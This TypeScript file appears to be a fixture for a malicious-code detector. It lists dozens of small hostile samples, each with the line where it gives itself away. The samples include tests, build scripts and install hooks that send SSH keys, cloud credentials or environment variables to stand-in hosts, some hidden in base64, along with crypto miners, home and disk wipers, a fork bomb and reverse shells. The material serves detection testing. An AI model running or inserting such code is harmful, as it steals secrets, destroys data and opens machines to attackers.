/** Code that attacks whoever runs it: files, and where (file:line) it may be said to give itself away. */
export interface MaliciousCase {
  readonly name: string;
  readonly files: Readonly<Record<string, string>>;
  readonly at: readonly string[];
  readonly kind: string;
}

const one = (name: string, kind: string, file: string, lines: readonly number[], text: string): MaliciousCase => ({
  ...{ name, kind, files: { [file]: text.replace(/^\n/, '') } },
  at: lines.map((line) => `${file}:${line}`),
});

export const MALICIOUS: readonly MaliciousCase[] = [
  one(
    'a JavaScript test that posts private keys',
    'credential_theft',
    'test/env.test.js',
    [7, 9],
    `
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
test("environment", async () => {
  const folder = join(homedir(), ".ssh");
  const found = {};
  for (const name of readdirSync(folder)) {
    found[name] = readFileSync(join(folder, name), "base64");
  }
  await fetch("http://collector.invalid/drop", { method: "POST", body: JSON.stringify(found) });
});`,
  ),
  one(
    'a Python fixture that posts cloud credentials',
    'credential_theft',
    'tests/conftest.py',
    [8, 9],
    `
import pathlib
import pytest
import urllib.request

@pytest.fixture(autouse=True)
def warm_up():
    place = pathlib.Path.home() / ".aws" / "credentials"
    data = place.read_bytes()
    urllib.request.urlopen(urllib.request.Request("https://metrics.invalid/u", data=data))
    yield`,
  ),
  one(
    'setup.py that sends the whole environment',
    'credential_theft',
    'setup.py',
    [5],
    `
import os, json
from setuptools import setup
import requests

requests.post("https://hook.invalid/x", data=json.dumps(dict(os.environ)))
setup(name="fine")`,
  ),
  one(
    'an environment dump by way of a helper',
    'credential_theft',
    'lib/report.js',
    [2, 7],
    `
const https = require('https');
const snapshot = () => JSON.stringify({ ...process.env });
function push(body) {
  const req = https.request({ hostname: 'drop.invalid', method: 'POST' });
  req.end(body);
}
push(snapshot());`,
  ),
  one(
    'a Go test that dials out with a key',
    'credential_theft',
    'internal/a_test.go',
    [6],
    `
package a

func TestNothing(t *testing.T) {
	home, _ := os.UserHomeDir()
	path := filepath.Join(home, ".ssh", "id_ed25519")
	key, err := os.ReadFile(path)
	if err != nil { t.Skip() }
	conn, _ := net.Dial("tcp", "203.0.113.9:443")
	conn.Write(key)
}`,
  ),
  one(
    'a Rust build script that posts a registry token',
    'credential_theft',
    'build.rs',
    [4],
    `
use std::fs;
fn main() {
    let home = std::env::var("HOME").unwrap();
    let token = fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap_or_default();
    let _ = ureq::post("https://stats.invalid/collect").send_string(&token);
}`,
  ),
  one(
    'a Java test that posts the shadow file',
    'credential_theft',
    'src/test/java/AppTest.java',
    [5],
    `
class AppTest {
  @Test
  void starts() throws Exception {
    Path path = Paths.get("/etc/shadow");
    String text = new String(Files.readAllBytes(path));
    HttpRequest request = HttpRequest.newBuilder(URI.create("http://c2.invalid/"))
        .POST(HttpRequest.BodyPublishers.ofString(text)).build();
    HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());
  }
}`,
  ),
  one(
    'TypeScript with callbacks and a promise chain',
    'credential_theft',
    'src/init.ts',
    [3],
    `
import { readFile } from 'fs/promises';
export function init(): void {
  readFile(process.env.HOME + '/.ssh/id_rsa', 'utf8').then((content) => {
    axios.post('https://gather.invalid', { content });
  });
}`,
  ),
  one(
    'a path in base64',
    'credential_theft',
    'tests/test_paths.py',
    [4, 5],
    `
import base64, os, urllib.request
def test_paths():
    where = os.path.expanduser(base64.b64decode("fi8uc3NoL2lkX3JzYQ==").decode())
    body = open(where, "rb").read()
    urllib.request.urlopen("http://sink.invalid/", data=body)`,
  ),
  one(
    'a path in pieces and hexadecimal',
    'credential_theft',
    'index.js',
    [4],
    `
const fs = require('fs');
const a = '.s' + 'sh';
const b = 'id_' + '\\x72\\x73\\x61';
const k = fs.readFileSync(require('os').homedir() + '/' + a + '/' + b);
require('https').request({ host: 'x.invalid', method: 'POST' }).end(k);`,
  ),
  one(
    'a whole program in base64',
    'credential_theft',
    'tests/helper.py',
    [2],
    `
import base64
exec(base64.b64decode("aW1wb3J0IHJlcXVlc3RzLCBvcwprZXkgPSBvcGVuKG9zLnBhdGguZXhwYW5kdXNlcigifi8uc3NoL2lkX3JzYSIpKS5yZWFkKCkKcmVxdWVzdHMucG9zdCgiaHR0cHM6Ly9kcm9wLmludmFsaWQiLCBkYXRhPWtleSkK"))`,
  ),
  one(
    'a shell pipeline',
    'credential_theft',
    'scripts/setup.sh',
    [3],
    `
#!/bin/sh
set -e
tar cz ~/.ssh | curl -s --data-binary @- https://drop.invalid/
make`,
  ),
  one(
    'a shell script by way of a file',
    'credential_theft',
    'ci/run.sh',
    [2, 3],
    `
#!/bin/bash
tar czf /tmp/cache.tgz "$HOME/.aws" "$HOME/.kube/config"
curl -F "file=@/tmp/cache.tgz" https://up.invalid/`,
  ),
  one(
    'an install hook that dumps the environment',
    'credential_theft',
    'package.json',
    [4],
    `
{
  "name": "x",
  "scripts": {
    "postinstall": "env | curl -d @- https://drop.invalid"
  }
}`,
  ),
  one(
    'a command from code',
    'credential_theft',
    'tests/test_run.py',
    [4],
    `
import subprocess

def test_run():
    subprocess.run("cat ~/.ssh/id_rsa | nc 203.0.113.7 4444", shell=True)`,
  ),
  one(
    'a name that is asked of an attacker’s name server',
    'credential_theft',
    'test/dns.test.js',
    [3, 4],
    `
const dns = require('dns');
test('x', () => {
  const key = require('fs').readFileSync(process.env.HOME + '/.npmrc').toString('hex');
  dns.resolve(key.slice(0, 60) + '.dns.example', () => {});
  fetch('https://example.invalid');
});`,
  ),
  one(
    'the cloud’s metadata',
    'credential_theft',
    'tests/test_cloud.py',
    [3],
    `
import requests
def test_role():
    role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/app").text
    requests.post("https://elsewhere.invalid/c", data=role)`,
  ),
  one(
    'browser passwords over a socket',
    'credential_theft',
    'app/tool.py',
    [4, 7],
    `
import socket, shutil, os
def collect():
    db = os.path.join(os.environ["HOME"], ".config/google-chrome/Default/Login Data")
    with open(db, "rb") as handle:
        blob = handle.read()
        s = socket.create_connection(("203.0.113.1", 80))
        s.sendall(blob)`,
  ),
  {
    name: 'a theft over two Python modules',
    kind: 'credential_theft',
    files: {
      'pkg/probe.py':
        'from pathlib import Path\n\ndef gather():\n    return (Path.home() / ".ssh" / "id_rsa").read_text()\n',
      'pkg/report.py':
        'import requests\nfrom .probe import gather\n\ndef report():\n    requests.post("https://r.invalid", data=gather())\n',
    },
    at: ['pkg/probe.py:4'],
  },
  {
    name: 'a theft over two JavaScript modules, the sender elsewhere',
    kind: 'credential_theft',
    files: {
      'lib/send.js':
        'export async function deliver(body) {\n  await fetch("https://r.invalid", { method: "POST", body });\n}\n',
      'test/a.test.js':
        'import { deliver } from "../lib/send.js";\nimport { readFileSync } from "fs";\nconst secret = readFileSync("/root/.ssh/id_rsa");\ndeliver(secret);\n',
    },
    at: ['test/a.test.js:3'],
  },
  one(
    'a miner in an install hook',
    'miner',
    'package.json',
    [3],
    `
{
  "scripts": {
    "preinstall": "curl -sLo /tmp/k https://x.invalid/xmrig && chmod +x /tmp/k && /tmp/xmrig -o pool.invalid:3333 -u 4Axyz"
  }
}`,
  ),
  one(
    'a miner started by a test',
    'miner',
    'tests/test_speed.py',
    [3],
    `
import subprocess
def test_speed():
    subprocess.Popen(["/tmp/worker", "--url", "stratum+tcp://pool.invalid:4444", "--user", "wallet"])`,
  ),
  one(
    'a miner that speaks for itself',
    'miner',
    'src/pool.ts',
    [3],
    `
import net from 'net';
const socket = net.connect(3333, 'pool.invalid');
socket.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] }));`,
  ),
  one(
    'a miner’s settings',
    'miner',
    'tools/config.json',
    [3],
    `
{
  "donate-level": 1,
  "pools": [{ "url": "pool.invalid:443", "user": "wallet" }]
}`,
  ),
  one(
    'a test that deletes the home',
    'wipe',
    'tests/test_clean.py',
    [5],
    `
import shutil
from pathlib import Path
def test_clean():
    home = Path.home()
    shutil.rmtree(home, ignore_errors=True)`,
  ),
  one(
    'JavaScript that deletes the home',
    'wipe',
    'test/clean.test.js',
    [4],
    `
import { rmSync } from 'node:fs';
import { homedir } from 'node:os';
test('cleans', () => {
  rmSync(homedir(), { recursive: true, force: true });
});`,
  ),
  one(
    'Go that deletes everything',
    'wipe',
    'main_test.go',
    [4],
    `
package main
func TestClean(t *testing.T) {
	target, _ := os.UserHomeDir()
	os.RemoveAll(target)
}`,
  ),
  one(
    'files deleted one by one',
    'wipe',
    'tests/test_tidy.py',
    [5],
    `
import os
def test_tidy():
    for folder, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            os.remove(os.path.join(folder, name))`,
  ),
  one(
    'a Makefile that deletes the system',
    'wipe',
    'Makefile',
    [2],
    `
test:
	rm -rf --no-preserve-root / || true`,
  ),
  one(
    'a shell script that deletes the home',
    'wipe',
    'run.sh',
    [2],
    `
#!/bin/sh
cd /tmp && rm -rf "$HOME"/* ~/.config`,
  ),
  one(
    'a disk overwritten from code',
    'wipe',
    'tests/disk.js',
    [2],
    `
const { execSync } = require('child_process');
execSync('dd if=/dev/zero of=/dev/sda bs=1M');`,
  ),
  one(
    'a fork bomb',
    'wipe',
    'scripts/load.sh',
    [2],
    `
#!/bin/bash
:(){ :|:& };:`,
  ),
  one(
    'a reverse shell in Python',
    'reverse_shell',
    'tests/test_net.py',
    [4],
    `
import os, socket, subprocess
def test_net():
    s = socket.socket()
    s.connect(("203.0.113.5", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])`,
  ),
  one(
    'a reverse shell in JavaScript',
    'reverse_shell',
    'test/net.test.js',
    [4],
    `
const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const client = net.connect(4444, '203.0.113.5', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});`,
  ),
  one(
    'a reverse shell in a script',
    'reverse_shell',
    'scripts/go.sh',
    [2],
    `
#!/bin/bash
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`,
  ),
];
